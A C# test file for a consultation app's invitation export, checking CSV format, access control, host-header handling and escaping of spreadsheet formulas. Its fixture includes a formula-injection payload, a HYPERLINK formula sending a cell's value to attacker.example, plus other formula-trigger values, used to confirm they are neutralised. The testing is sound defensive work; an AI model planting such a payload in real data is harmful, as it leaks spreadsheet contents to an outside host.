using System.Net;
using System.Text;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using StatementDrafting.Domain.People;
using StatementDrafting.Web.Features.Invitations;
using StatementDrafting.Web.Infrastructure.Identity;
using StatementDrafting.Web.Infrastructure.Persistence;

namespace StatementDrafting.Web.Tests.Features.Invitations;

/// <summary>The CSV of usable links for mail merge, and the organisers' page that lists them.</summary>
public sealed class InvitationExportTests : IClassFixture<InvitationExportTests.World>
{
    private readonly World _world;

    public InvitationExportTests(World world) => _world = world;

    /// <summary>The demo, plus participants whose details a spreadsheet would run as formulas, all with links.</summary>
    public sealed class World : IAsyncLifetime
    {
        public const string HyperlinkName = "=HYPERLINK(\"http://attacker.example/?leak=\"&A2,\"Click me\")";

        public AppFactory App { get; } = new(demo: true);

        public int ConsultationId { get; private set; }

        public async Task InitializeAsync()
        {
            App.CreateClient().Dispose();
            ConsultationId = await App.ConsultationIdAsync();
            await using var scope = App.Services.CreateAsyncScope();
            var db = scope.ServiceProvider.GetRequiredService<DraftingDbContext>();
            var directory = scope.ServiceProvider.GetRequiredService<AccountDirectory>();
            var consultation = await db.Consultations.Include(c => c.Clusters).SingleAsync(c => c.Id == ConsultationId);
            var now = DateTimeOffset.UtcNow;
            foreach (var (email, name, organisation) in new[]
            {
                ("formula1@example.org", HyperlinkName, "Tab\tInside \"Quoted\", Org"),
                ("formula2@example.org", "+1", "@SUM(1+1)"),
                ("formula3@example.org", "-2 Minus", "=1+2 Org"),
            })
            {
                var registration = Registration.Submit(
                    consultation,
                    new RegistrationDetails(name, email, organisation, consultation.StakeholderCategories[0], "Thailand", consultation.Regions[0], Gender.PreferNotToSay, null),
                    [],
                    RegistrationSource.Import,
                    now);
                registration.Approve(now);
                db.Registrations.Add(registration);
                await db.SaveChangesAsync();
                var user = await directory.FindOrCreateUserAsync(db, email, name, default);
                (await directory.FindOrCreateParticipationAsync(db, ConsultationId, user, default)).MakeParticipant(registration.Id);
                await db.SaveChangesAsync();
            }

            await App.SendAsAsync(People.Organiser, m => m.Send(new CreateInvitations(ConsultationId, null, 14)));
        }

        public Task DisposeAsync()
        {
            App.Dispose();
            return Task.CompletedTask;
        }
    }

    [Fact]
    public async Task The_export_is_utf8_csv_with_a_byte_order_mark_one_row_per_usable_link_and_not_cached()
    {
        using var organiser = await _world.App.ClientAsAsync(People.Organiser);

        using var response = await organiser.GetAsync(new Uri($"/consultations/{_world.ConsultationId}/manage/invitations.csv", UriKind.Relative));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType!.MediaType);
        Assert.Contains("no-store", response.Headers.CacheControl!.ToString(), StringComparison.Ordinal);
        var bytes = await response.Content.ReadAsByteArrayAsync();
        Assert.Equal(Encoding.UTF8.GetPreamble(), bytes[..3]);
        var lines = Encoding.UTF8.GetString(bytes[3..]).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal("\"name\",\"email\",\"organisation\",\"pseudonym\",\"link\",\"expires\"", lines[0]);
        var usable = await _world.App.QueryAsync(db => db.Invitations.CountAsync(i => i.RevokedAt == null && i.ConsultationId == _world.ConsultationId));
        Assert.Equal(usable, lines.Length - 1);
        Assert.Contains(lines, l => l.StartsWith("\"Anjali Ramaswamy\",\"participant1@example.org\",\"Coastal Fishworkers Solidarity Network\",\"Participant ", StringComparison.Ordinal));
    }

    [Fact]
    public async Task With_a_public_address_configured_the_export_and_the_page_link_to_it_whatever_host_the_request_named()
    {
        await using var app = new AppFactory(demo: true, settings: new Dictionary<string, string> { ["Site:PublicAddress"] = "https://drafting.example.org" });
        app.CreateClient().Dispose();
        var consultationId = await app.ConsultationIdAsync();
        await app.SendAsAsync(People.Organiser, m => m.Send(new CreateInvitations(consultationId, null, 14)));
        using var organiser = await app.ClientAsAsync(People.Organiser);

        using var request = new HttpRequestMessage(HttpMethod.Get, new Uri($"/consultations/{consultationId}/manage/invitations.csv", UriKind.Relative));
        request.Headers.Host = "attacker.example";
        using var response = await organiser.SendAsync(request);
        var csv = await response.Content.ReadAsStringAsync();
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Contains("\"https://drafting.example.org/invitations/", csv, StringComparison.Ordinal);
        Assert.DoesNotContain("attacker.example", csv, StringComparison.Ordinal);

        var page = await organiser.GetStringAsync(new Uri($"/consultations/{consultationId}/manage/invitations", UriKind.Relative));
        Assert.Contains("https://drafting.example.org/invitations/", page, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("ftp://drafting.example.org/")]
    [InlineData("drafting.example.org")]
    public async Task A_public_address_that_is_not_an_http_address_stops_the_app_from_starting_and_says_why(string address)
    {
        await using var app = new AppFactory(demo: false, settings: new Dictionary<string, string> { ["Site:PublicAddress"] = address });
        var refused = Assert.ThrowsAny<Exception>(() => app.CreateClient().Dispose());
        Assert.Contains("Site:PublicAddress must be an absolute http or https address", refused.ToString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Cells_a_spreadsheet_would_run_as_formulas_come_out_as_text_behind_an_apostrophe()
    {
        using var organiser = await _world.App.ClientAsAsync(People.Organiser);

        var csv = Encoding.UTF8.GetString(await organiser.GetByteArrayAsync(new Uri($"/consultations/{_world.ConsultationId}/manage/invitations.csv", UriKind.Relative)));

        Assert.Contains("\"'=HYPERLINK(\"\"http://attacker.example/?leak=\"\"&A2,\"\"Click me\"\")\",\"formula1@example.org\",\"Tab\tInside \"\"Quoted\"\", Org\"", csv, StringComparison.Ordinal);
        Assert.Contains("\"'+1\",\"formula2@example.org\",\"'@SUM(1+1)\"", csv, StringComparison.Ordinal);
        Assert.Contains("\"'-2 Minus\",\"formula3@example.org\",\"'=1+2 Org\"", csv, StringComparison.Ordinal);
        Assert.DoesNotContain(",\"=", csv, StringComparison.Ordinal);
        Assert.DoesNotContain(",\"+", csv, StringComparison.Ordinal);
        Assert.DoesNotContain(",\"@", csv, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_link_taken_from_the_export_signs_its_participant_in()
    {
        using var organiser = await _world.App.ClientAsAsync(People.Organiser);
        var csv = Encoding.UTF8.GetString(await organiser.GetByteArrayAsync(new Uri($"/consultations/{_world.ConsultationId}/manage/invitations.csv", UriKind.Relative)));
        var row = csv.Split("\r\n").Single(l => l.Contains("\"formula2@example.org\"", StringComparison.Ordinal));
        var link = new Uri(row.Split("\",\"")[4]);

        using var browser = _world.App.Browser();
        using var response = await browser.GetAsync(new Uri(link.PathAndQuery, UriKind.Relative));

        Assert.Equal("http://localhost", link.GetLeftPart(UriPartial.Authority));
        Assert.Equal(HttpStatusCode.Redirect, response.StatusCode);
    }

    [Theory]
    [InlineData("participant2@example.org")]
    [InlineData("observer@example.org")]
    [InlineData("cohost1@example.org")]
    public async Task Only_organisers_get_the_export_or_the_page(string email)
    {
        using var client = await _world.App.ClientAsAsync(email);

        using var export = await client.GetAsync(new Uri($"/consultations/{_world.ConsultationId}/manage/invitations.csv", UriKind.Relative));
        var (status, page) = await Html.GetAsync(client, $"/consultations/{_world.ConsultationId}/manage/invitations");

        Assert.Equal(HttpStatusCode.Forbidden, export.StatusCode);
        Assert.DoesNotContain("formula1@example.org", await export.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.Forbidden, status);
        Assert.DoesNotContain("Anjali Ramaswamy", page.Body!.Text(), StringComparison.Ordinal);
        Assert.Null(page.QuerySelector("input[id^=link-]"));
    }

    [Fact]
    public async Task Someone_not_signed_in_is_sent_to_sign_in_instead_of_getting_the_export()
    {
        using var anonymous = _world.App.Browser();

        using var response = await anonymous.GetAsync(new Uri($"/consultations/{_world.ConsultationId}/manage/invitations.csv", UriKind.Relative));

        Assert.NotEqual(HttpStatusCode.OK, response.StatusCode);
        Assert.DoesNotContain("invitations/", await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_page_lists_approved_participants_with_real_details_state_and_a_labelled_link_to_copy()
    {
        using var organiser = await _world.App.ClientAsAsync(People.Organiser);

        var (status, page) = await Html.GetAsync(organiser, $"/consultations/{_world.ConsultationId}/manage/invitations");

        Assert.Equal(HttpStatusCode.OK, status);
        var card = page.QuerySelectorAll("ul.invitees > li").Single(li => li.QuerySelector("h3")!.Text() == "Anjali Ramaswamy");
        Assert.Contains("participant1@example.org", card.Text(), StringComparison.Ordinal);
        Assert.Contains("Coastal Fishworkers Solidarity Network", card.Text(), StringComparison.Ordinal);
        Assert.Contains("Link active until", card.Text(), StringComparison.Ordinal);
        var input = card.QuerySelector("input[readonly]")!;
        Assert.Equal("Link for Anjali Ramaswamy", page.QuerySelector($"label[for={input.Id}]")!.Text());
        Assert.StartsWith("http://localhost/invitations/", input.GetAttribute("value"), StringComparison.Ordinal);

        // Without JavaScript there is no copy button that would do nothing: it appears once the page is interactive.
        Assert.Null(card.QuerySelector("button[type=button]"));
        Assert.DoesNotContain(page.QuerySelectorAll("ul.invitees h3"), h => h.Text().Contains("Demo Organiser", StringComparison.Ordinal));
    }

    [Fact]
    public async Task An_administrator_gets_no_link_because_it_would_sign_in_more_than_a_participant()
    {
        await using (var scope = _world.App.Services.CreateAsyncScope())
        {
            var db = scope.ServiceProvider.GetRequiredService<DraftingDbContext>();
            var directory = scope.ServiceProvider.GetRequiredService<AccountDirectory>();
            var admin = await directory.FindOrCreateUserAsync(db, "second.admin@example.org", "Second Admin", default);
            admin.IsAdministrator = true;
            (await directory.FindOrCreateParticipationAsync(db, _world.ConsultationId, admin, default)).MakeParticipant();
            await db.SaveChangesAsync();
        }

        var participation = await _world.App.ParticipationOfAsync("second.admin@example.org", _world.ConsultationId);
        var refused = await Assert.ThrowsAsync<StatementDrafting.Domain.DomainException>(() =>
            _world.App.SendAsAsync(People.Organiser, m => m.Send(new CreateInvitations(_world.ConsultationId, participation.Id, 14))));
        var all = await _world.App.SendAsAsync(People.Organiser, m => m.Send(new CreateInvitations(_world.ConsultationId, null, 14)));

        Assert.Contains("password", refused.Message, StringComparison.Ordinal);
        Assert.Equal(new CreatedInvitations(0, 1), all);
        Assert.False(await _world.App.QueryAsync(db => db.Invitations.AnyAsync(i => i.ParticipationId == participation.Id)));
    }
}
